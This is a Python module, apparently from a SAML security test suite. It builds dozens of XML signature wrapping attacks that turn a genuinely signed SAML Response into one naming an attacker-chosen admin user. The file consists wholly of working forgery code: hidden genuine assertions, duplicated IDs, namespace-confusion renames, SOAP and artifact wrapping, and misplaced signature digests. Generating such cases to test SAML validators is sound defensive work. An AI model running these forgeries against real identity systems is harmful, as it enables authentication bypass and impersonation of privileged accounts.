"""Messages put together from genuinely signed parts: XML signature wrapping and its relatives.

Each attack takes the tree of a good signed Response and gives back another tree (or changes it) in which
someone calls themselves `ADMIN`. How they are named follows Somorovsky et al., "On Breaking SAML" (2012).
"""

from __future__ import annotations

import copy
from collections.abc import Callable, Iterator

from lxml import etree

from .saml_names import DS, MD, SAML, SAMLP, tag
from .saml_response import new_id

ADMIN = "admin@evil.example.com"
Attack = Callable[["Genuine"], etree._Element]


class Genuine:
    """A good Response; every method gives copies."""

    def __init__(self, root: etree._Element) -> None:
        self._root = root

    def response(self) -> etree._Element:
        return copy.deepcopy(self._root)

    def assertion(self) -> etree._Element:
        return copy.deepcopy(self._root.find(tag("saml:Assertion")))

    def signature(self) -> etree._Element:
        """The Assertion's signature, or the Response's when only that is signed."""
        found = self._root.find(f"{tag('saml:Assertion')}/{tag('ds:Signature')}")
        return copy.deepcopy(self._root.find(tag("ds:Signature")) if found is None else found)

    def response_signature(self) -> etree._Element:
        """The Response's signature, or the Assertion's when only that is signed."""
        found = self._root.find(tag("ds:Signature"))
        return self.signature() if found is None else copy.deepcopy(found)

    def bare_response(self) -> etree._Element:
        return without_signature(self.response())

    def bare_assertion(self) -> etree._Element:
        return without_signature(self.assertion())

    def forged_assertion(self, *, same_id: bool = False, signature: bool = False) -> etree._Element:
        """A copy for another user, with another ID unless told otherwise, with or without a signature."""
        forged = self.bare_assertion()
        forged.find(f"{tag('saml:Subject')}/{tag('saml:NameID')}").text = ADMIN
        if not same_id:
            forged.set("ID", new_id())
        if signature:
            forged.insert(1, self.signature())
        return forged

    def empty_response(self, *, signature: bool = False) -> etree._Element:
        """A Response without an Assertion, with another ID."""
        response = self.bare_response()
        response.remove(response.find(tag("saml:Assertion")))
        response.set("ID", new_id())
        if signature:
            response.insert(1, self.response_signature())
        return response

    def forged_response(self, *, signature: bool = False) -> etree._Element:
        response = self.empty_response(signature=signature)
        response.append(self.forged_assertion())
        return response

    def response_around(self, *children: etree._Element) -> etree._Element:
        """A Response as received (with its signature, when it has one) around other children."""
        response = self.response()
        response.remove(response.find(tag("saml:Assertion")))
        response.extend(children)
        return response


def without_signature(element: etree._Element) -> etree._Element:
    for each in element.findall(tag("ds:Signature")):
        element.remove(each)
    return element


def wrapped(name: str, *children: etree._Element) -> etree._Element:
    """An element around others."""
    holder = etree.Element(name)
    holder.extend(children)
    return holder


def add_extensions(response: etree._Element, *children: etree._Element) -> etree._Element:
    """Put `samlp:Extensions` in its place in a Response."""
    status = response.find(tag("samlp:Status"))
    status.addprevious(wrapped(tag("samlp:Extensions"), *children))
    return response


def put_in(parent: etree._Element, path: str, child: etree._Element) -> etree._Element:
    """Append a child to the element at a path, made where it is missing."""
    for name in path.split("/"):
        found = parent.find(tag(name))
        parent = etree.SubElement(parent, tag(name)) if found is None else found
    parent.append(child)
    return parent


# Where the genuine Assertion is put while a forged one stands in its place: (response, forged, genuine)
Hide = Callable[[etree._Element, etree._Element, etree._Element], object]


def _before_statements(forged: etree._Element, element: etree._Element) -> None:
    forged.find(tag("saml:AuthnStatement")).addprevious(element)


HIDING_PLACES: dict[str, Hide] = {
    "Extensions": lambda response, forged, genuine: add_extensions(response, genuine),
    "Extensions_in_foreign": lambda response, forged, genuine: add_extensions(response, wrapped("{urn:x}x", genuine)),
    "EntityDescriptor": lambda response, forged, genuine: add_extensions(
        response, wrapped(f"{{{MD}}}EntityDescriptor", genuine)
    ),
    "StatusDetail": lambda response, forged, genuine: put_in(response, "samlp:Status/samlp:StatusDetail", genuine),
    "StatusMessage": lambda response, forged, genuine: put_in(response, "samlp:Status/samlp:StatusMessage", genuine),
    "StatusCode": lambda response, forged, genuine: put_in(response, "samlp:Status/samlp:StatusCode", genuine),
    "ResponseIssuer": lambda response, forged, genuine: put_in(response, "saml:Issuer", genuine),
    "EncryptedAssertion": lambda response, forged, genuine: put_in(response, "saml:EncryptedAssertion", genuine),
    "Response_in_Response": lambda response, forged, genuine: response.append(
        wrapped(tag("samlp:Response"), genuine)
    ),
    "Foreign_in_Response": lambda response, forged, genuine: response.append(wrapped("{urn:x}x", genuine)),
    "Foreign_first": lambda response, forged, genuine: response.insert(0, wrapped("{urn:x}x", genuine)),
    "Object_in_Response": lambda response, forged, genuine: response.append(wrapped(f"{{{DS}}}Object", genuine)),
    "Advice": lambda response, forged, genuine: _before_statements(forged, wrapped(tag("saml:Advice"), genuine)),
    "Advice_in_foreign": lambda response, forged, genuine: _before_statements(
        forged, wrapped(tag("saml:Advice"), wrapped("{urn:x}x", genuine))
    ),
    "SubjectConfirmationData": lambda response, forged, genuine: put_in(
        forged, "saml:Subject/saml:SubjectConfirmation/saml:SubjectConfirmationData", genuine
    ),
    "SubjectConfirmation": lambda response, forged, genuine: put_in(
        forged, "saml:Subject/saml:SubjectConfirmation", genuine
    ),
    "NameID": lambda response, forged, genuine: put_in(forged, "saml:Subject/saml:NameID", genuine),
    "Condition": lambda response, forged, genuine: put_in(forged, "saml:Conditions/saml:Condition", genuine),
    "Audience": lambda response, forged, genuine: put_in(
        forged, "saml:Conditions/saml:AudienceRestriction/saml:Audience", genuine
    ),
    "AuthnContextDecl": lambda response, forged, genuine: put_in(
        forged, "saml:AuthnStatement/saml:AuthnContext/saml:AuthnContextDecl", genuine
    ),
    "AttributeValue": lambda response, forged, genuine: put_in(
        forged, "saml:AttributeStatement/saml:Attribute/saml:AttributeValue", genuine
    ),
    "AttributeStatement": lambda response, forged, genuine: put_in(forged, "saml:AttributeStatement", genuine),
    "AuthzDecisionStatement": lambda response, forged, genuine: put_in(
        forged, "saml:AuthzDecisionStatement/saml:Evidence", genuine
    ),
    "child": lambda response, forged, genuine: forged.append(genuine),
    "first_child": lambda response, forged, genuine: forged.insert(0, genuine),
}


def hidden(where: str, *, same_id: bool, signature: bool) -> Attack:
    """XSW-WRAP: the genuine Assertion hidden, a forged one in its place."""

    def attack(genuine: Genuine) -> etree._Element:
        forged = genuine.forged_assertion(same_id=same_id, signature=signature)
        response = genuine.response_around(forged)
        HIDING_PLACES[where](response, forged, genuine.bare_assertion() if signature else genuine.assertion())
        return response

    return attack


def _in_signature(signature: etree._Element, *children: etree._Element, inside: str | None) -> etree._Element:
    holder = signature if inside is None else etree.SubElement(signature, tag(inside))
    holder.extend(children)
    return signature


def _forged_with_signature(genuine: Genuine, inside: str | None) -> etree._Element:
    forged = genuine.forged_assertion()
    forged.insert(1, _in_signature(genuine.signature(), genuine.bare_assertion(), inside=inside))
    return genuine.response_around(forged)


def _forged_response_with_signature(genuine: Genuine, inside: str | None) -> etree._Element:
    response = genuine.forged_response()
    response.insert(1, _in_signature(genuine.response_signature(), genuine.bare_response(), inside=inside))
    return response


def _original_beside_signature(genuine: Genuine) -> etree._Element:
    response = genuine.forged_response(signature=True)
    response.find(tag("ds:Signature")).addnext(genuine.bare_response())
    return response


def _moved_to_extensions_with_copy(genuine: Genuine) -> etree._Element:
    forged = genuine.forged_assertion(same_id=True)
    return add_extensions(genuine.response_around(genuine.assertion()), forged)


def _soap(body: etree._Element) -> etree._Element:
    namespace = "http://schemas.xmlsoap.org/soap/envelope/"
    return wrapped(f"{{{namespace}}}Envelope", wrapped(f"{{{namespace}}}Body", body))


def _artifact_response(genuine: Genuine) -> etree._Element:
    outer = genuine.empty_response()
    outer.tag = tag("samlp:ArtifactResponse")
    outer.append(genuine.response())
    return outer


def _around_signed_response(genuine: Genuine, *, forged: bool) -> etree._Element:
    outer = genuine.forged_response() if forged else genuine.empty_response()
    outer.append(genuine.response())
    return outer


def _renamed(path: str | None, name: str) -> Attack:
    def attack(genuine: Genuine) -> etree._Element:
        response = genuine.response()
        element = response if path is None else response.find(path)
        element.tag = name
        return response

    return attack


def _signature_root(genuine: Genuine) -> etree._Element:
    return _in_signature(genuine.response_signature(), genuine.bare_response(), inside="ds:Object")


def _with_second_digest(where: str) -> Attack:
    """XSW-SIGLOC: the genuine signature's parts once more, where a search over the document finds them first."""

    def attack(genuine: Genuine) -> etree._Element:
        response = genuine.response()
        response.find(f"{tag('saml:Assertion')}/{tag('saml:Subject')}/{tag('saml:NameID')}").text = ADMIN
        info = genuine.signature().find(tag("ds:SignedInfo"))
        info.find(f"{tag('ds:Reference')}/{tag('ds:DigestValue')}").text = "A" * 43 + "="
        if where == "Extensions":
            return add_extensions(response, info)
        put_in(response, "samlp:Status/samlp:StatusDetail", info)
        return response

    return attack


ATTACKS: dict[str, Attack] = {
    "XSW1-in_Object": lambda g: _forged_response_with_signature(g, "ds:Object"),
    "XSW1-in_Signature": lambda g: _forged_response_with_signature(g, None),
    "XSW1-in_KeyInfo": lambda g: _forged_response_with_signature(g, "ds:KeyInfo"),
    "XSW2": _original_beside_signature,
    "XSW3": lambda g: g.response_around(g.forged_assertion(), g.assertion()),
    "XSW3-same_id": lambda g: g.response_around(g.forged_assertion(same_id=True), g.assertion()),
    "XSW3-last": lambda g: g.response_around(g.assertion(), g.forged_assertion()),
    "XSW5": lambda g: g.response_around(g.forged_assertion(signature=True), g.bare_assertion()),
    "XSW5-first": lambda g: g.response_around(g.bare_assertion(), g.forged_assertion(signature=True)),
    "XSW5-alone": lambda g: g.response_around(g.forged_assertion(same_id=True, signature=True)),
    "XSW6": lambda g: _forged_with_signature(g, None),
    "XSW7": _moved_to_extensions_with_copy,
    "XSW8": lambda g: _forged_with_signature(g, "ds:Object"),
    "XSW8-KeyInfo": lambda g: _forged_with_signature(g, "ds:KeyInfo"),
    "XSW-forged_response": lambda g: g.forged_response(),
    "XSW-forged_response_with_signature": lambda g: g.forged_response(signature=True),
    "RESP-ONLY-moved_out": lambda g: add_extensions(g.response_around(), g.assertion()),
    "RESP-ONLY-wrapped": lambda g: _around_signed_response(g, forged=False),
    "RESP-ONLY-wrapped_beside_forged": lambda g: _around_signed_response(g, forged=True),
    "XSW-SIGLOC-StatusDetail": _with_second_digest("StatusDetail"),
    "XSW-SIGLOC-Extensions": _with_second_digest("Extensions"),
    "ART-WRAP-artifact": _artifact_response,
    "ART-WRAP-soap": lambda g: _soap(g.response()),
    "ART-WRAP-metadata": lambda g: wrapped(f"{{{MD}}}EntityDescriptor", g.response()),
    "ART-WRAP-assertion_as_root": lambda g: g.assertion(),
    "C14N-EMPTY-signature_as_root": _signature_root,
    "NS-CONFUSION-root": _renamed(None, f"{{{SAML}}}Response"),
    "NS-CONFUSION-saml1": _renamed(None, "{urn:oasis:names:tc:SAML:1.0:protocol}Response"),
    "NS-CONFUSION-space": _renamed(None, f"{{{SAMLP} }}Response"),
    "NS-CONFUSION-case": _renamed(None, f"{{{SAMLP.upper()}}}Response"),
    "NS-CONFUSION-none": _renamed(None, "Response"),
    "NS-CONFUSION-local_case": _renamed(None, f"{{{SAMLP}}}response"),
    "NS-CONFUSION-assertion": _renamed(tag("saml:Assertion"), f"{{{SAMLP}}}Assertion"),
    "NS-CONFUSION-assertion_saml1": _renamed(
        tag("saml:Assertion"), "{urn:oasis:names:tc:SAML:1.0:assertion}Assertion"
    ),
    "NS-CONFUSION-status": _renamed(tag("samlp:Status"), f"{{{SAML}}}Status"),
    "LOGOUT-as_response": _renamed(None, f"{{{SAMLP}}}LogoutResponse"),
}


def all_attacks() -> Iterator[tuple[str, Attack]]:
    """Every attack with its name."""
    yield from ATTACKS.items()
    for where in HIDING_PLACES:
        for same_id in (False, True):
            for signature in (False, True):
                ids = "same_id" if same_id else "other_id"
                name = f"XSW-WRAP-{where}-{ids}" + ("-with_signature" if signature else "")
                yield name, hidden(where, same_id=same_id, signature=signature)
